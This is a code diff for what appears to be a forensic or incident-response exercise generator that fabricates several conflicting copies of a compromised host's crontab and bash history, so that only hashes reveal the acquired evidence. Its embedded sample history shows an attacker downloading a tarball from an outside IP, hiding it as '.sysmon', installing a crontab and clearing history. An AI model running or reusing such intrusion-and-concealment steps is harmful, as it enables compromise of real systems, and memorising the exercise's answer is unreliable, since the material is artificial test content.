@@ -74,27 +74,43 @@ wget -q http://203.0.113.77/s.tgz
 tar xzf s.tgz -C /usr/local/lib/ && rm s.tgz
 #1773177240
 mv /usr/local/lib/s /usr/local/lib/.sysmon
-#1773177262
+#{installed}
 crontab /tmp/.c && rm /tmp/.c
 #1773177270
 history -c
 """
+ACQUIRED_INSTALL = 1773177262  # 2026-03-10 21:14:22 UTC
 
 
 def which_copy_is_evidence() -> dict[str, bytes]:
+    """Five copies of root's crontab and four of its history, one of each acquired: only the hashes tell which.
+
+    Every other pairing gives another first run (twenty pairings, nineteen wrong times), so the answer needs both
+    items verified, not a guess among the copies.
+    """
     import hashlib
 
     exports = f"{CASE}/exports"
-    acquired = CRONTAB.format(minute=43).encode()
-    files = {
-        f"{exports}/crontabs-root": acquired,
+    crontabs = {
+        "crontabs-root": CRONTAB.format(minute=43).encode(),  # acquired (E-03)
         # an older version found in /var/backups on the host
-        f"{exports}/root-crontab.bak": CRONTAB.format(minute=13).encode(),
+        "root-crontab.bak": CRONTAB.format(minute=13).encode(),
         # pasted into the helpdesk ticket from a screenshot: Windows line endings, one digit misread
-        f"{exports}/root-crontab.txt": CRONTAB.format(minute=48).replace("\n", "\r\n").encode(),
-        f"{exports}/passwd": PASSWD.encode(),
-        f"{exports}/bash_history": HISTORY.encode(),
+        "root-crontab.txt": CRONTAB.format(minute=48).replace("\n", "\r\n").encode(),
+        # retyped into the incident wiki by the first responder
+        "crontab-wiki.txt": CRONTAB.format(minute=34).encode(),
+        # sent by the hosting provider from its own backups, of no recorded date
+        "crontab-provider": CRONTAB.format(minute=7).encode(),
     }
+    histories = {
+        "bash_history": ACQUIRED_INSTALL,  # acquired (E-02)
+        "bash_history.ticket": ACQUIRED_INSTALL + 37 * 60 + 18,  # 21:51:40: the ticket's retyped epoch
+        "bash_history.wiki": ACQUIRED_INSTALL - 45 * 60 - 17,  # 20:29:05
+        "bash_history.provider": ACQUIRED_INSTALL + 2 * 3600 + 35 * 60 + 58,  # 23:50:20
+    }
+    files = {f"{exports}/{name}": data for name, data in crontabs.items()}
+    files.update({f"{exports}/{name}": HISTORY.format(installed=epoch).encode() for name, epoch in histories.items()})
+    files[f"{exports}/passwd"] = PASSWD.encode()
     digest = {name: hashlib.sha256(files[f"{exports}/{name}"]).hexdigest()
               for name in ("passwd", "bash_history", "crontabs-root")}
     custody = f"""CHAIN OF CUSTODY - case IR-2026-031, host fs-02 (file server)
